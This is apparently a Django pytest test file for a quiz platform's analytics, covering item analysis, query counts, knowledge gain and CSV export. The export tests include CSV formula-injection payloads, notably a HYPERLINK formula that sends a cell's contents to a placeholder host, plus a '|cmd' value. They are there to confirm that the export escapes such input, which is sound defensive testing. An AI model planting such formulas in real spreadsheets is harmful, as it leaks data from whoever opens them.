import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from quizzes import selectors, services
from quizzes.exports import sanitize_cell
from quizzes.models import QuizPurpose
from tests.factories import CourseFactory, EnrolmentFactory, warm_layout
from tests.quizzes.factories import QuizFactory, add_questions, course_trainer, enrolled_trainee, single

pytestmark = pytest.mark.django_db


def take(quiz, trainee, picks):
    """Submit an attempt choosing the choice at index picks[i] (by position) for question i."""
    attempt = services.start_attempt(quiz=quiz, trainee=trainee)
    responses = {}
    for answer in attempt.answers.select_related("question").order_by("position"):
        choices = list(answer.question.choices.order_by("position"))
        responses[answer.question_id] = [str(choices[picks[answer.position - 1]].pk)]
    return services.submit_attempt(attempt=attempt, responses=responses)


def test_item_analysis_counts_correct_answers_wrong_choices_and_discrimination():
    quiz = QuizFactory(pass_mark=50)
    add_questions(quiz, [single(text="Easy"), single(text="Hard", count=4)])
    # Four strong trainees get both right; four weak ones get both wrong, mostly choosing option 3.
    for _ in range(4):
        take(quiz, enrolled_trainee(quiz.course), [0, 0])
    for index in range(4):
        take(quiz, enrolled_trainee(quiz.course), [1, 2 if index < 3 else 3])
    stats = selectors.item_analysis(quiz=quiz)
    assert (stats.attempts, stats.passed, stats.pass_rate, stats.mean, stats.median) == (
        8,
        4,
        50.0,
        50.0,
        50.0,
    )
    easy, hard = stats.questions
    assert (easy.answered, easy.correct, easy.percent_correct) == (8, 4, 50.0)
    assert hard.most_chosen_wrong == "Option 3"
    assert [c.picked for c in hard.choices] == [4, 0, 3, 1]
    assert hard.discrimination == 1.0


def test_item_analysis_query_count_does_not_grow_with_attempts(client):
    quiz = QuizFactory()
    add_questions(quiz, [single(), single()])
    client.force_login(course_trainer(quiz.course))
    warm_layout(client)
    url = reverse("quizzes:studio_analysis", kwargs={"slug": quiz.course.slug, "quiz_id": quiz.pk})
    take(quiz, enrolled_trainee(quiz.course), [0, 1])
    with CaptureQueriesContext(connection) as few:
        client.get(url)
    for _ in range(5):
        take(quiz, enrolled_trainee(quiz.course), [1, 0])
    with CaptureQueriesContext(connection) as many:
        client.get(url)
    assert len(few) == len(many)


def test_csv_export_neutralises_formulas(client):
    quiz = QuizFactory()
    (_question,) = add_questions(quiz, [single(text='=HYPERLINK("http://x/?"&A1)')])
    take(quiz, enrolled_trainee(quiz.course), [0])
    client.force_login(course_trainer(quiz.course))
    response = client.get(
        reverse("quizzes:studio_analysis_csv", kwargs={"slug": quiz.course.slug, "quiz_id": quiz.pk})
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][1] == '\'=HYPERLINK("http://x/?"&A1)'
    assert rows[1][4] == "100.0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+x", "'+x"), ("@SUM", "'@SUM"), ("-12", "-12"), ("-1.5", "-1.5"), ("-x", "'-x"),
     ("|cmd", "'\\|cmd"), ("\tx", "'\tx"), ("plain", "plain"), (None, ""), (3, 3)],
)  # fmt: skip
def test_sanitize_cell(value, expected):
    assert sanitize_cell(value) == expected


def test_knowledge_gain_is_best_post_test_minus_first_pre_test():
    course = CourseFactory()
    pre = QuizFactory(course=course, module=None, purpose=QuizPurpose.PRE_TEST, is_required=False)
    post = QuizFactory(course=course, module=None, purpose=QuizPurpose.POST_TEST)
    for quiz in (pre, post):
        add_questions(quiz, [single(), single()])
    trainee = EnrolmentFactory(course=course).trainee
    take(pre, trainee, [0, 1])  # 50
    take(post, trainee, [1, 1])  # 0
    take(post, trainee, [0, 0])  # 100
    assert selectors.knowledge_gain_of(course=course, trainee=trainee) == 50
    row = selectors.knowledge_gains(course=course).values("profile__sex", "gain").get()
    assert row == {"profile__sex": "female", "gain": 50}


def test_course_page_lists_quizzes_with_constant_queries(client):
    course = CourseFactory()
    trainee = EnrolmentFactory(course=course).trainee
    client.force_login(trainee)
    warm_layout(client)
    QuizFactory(course=course, title="First module check")
    with CaptureQueriesContext(connection) as few:
        html = client.get(course.get_absolute_url()).content.decode()
    assert "First module check" in html
    for _ in range(4):
        quiz = QuizFactory(course=course)
        add_questions(quiz, [single()])
        take(quiz, trainee, [0])
    QuizFactory(course=course, module=None, title="Final exam")
    with CaptureQueriesContext(connection) as many:
        html = client.get(course.get_absolute_url()).content.decode()
    assert len(few) == len(many)
    assert "Final exam" in html
    assert "best score 100%" in html
